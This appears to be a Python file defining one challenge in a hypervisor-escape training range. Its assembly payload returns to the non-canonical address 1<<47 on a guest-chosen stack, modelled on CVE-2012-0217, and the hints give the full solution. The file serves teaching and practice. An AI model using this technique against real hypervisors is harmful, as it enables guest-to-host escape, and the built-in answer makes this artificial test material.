"""A return to an address that is none: the fault is taken by the VMM, on a stack that the guest has chosen."""

from vmwidgets.model.range.attack import Attack
from vmwidgets.model.words import said

GUEST_RETURN = Attack(
    id="guest_return",
    title=said("a return to an address that is not canonical"),
    code="""
    mov rdi, 1
    shl rdi, 47                 ; the first address that is not canonical
    mov rsi, {return_table}
    add rsi, 40                 ; SS, RSP, RFLAGS, CS: the fifth word that is saved is the address
    mov rax, {call_return_to_user}
    vmcall
""",
    goal="layer_taken",
    number=7,
    like="CVE-2012-0217 (XSA-7)",
    hints=(
        said("Your kernel returns to its programs by the VMM. What does the VMM believe of what you say?"),
        said("A processor saves where it was when it faults. On whose stack, if yours is already loaded?"),
        said("Return to the address 1 << 47 with return_table + 40 as the stack pointer."),
    ),
)
"""Lets the VMM fault on a stack that lies over its own table of code."""
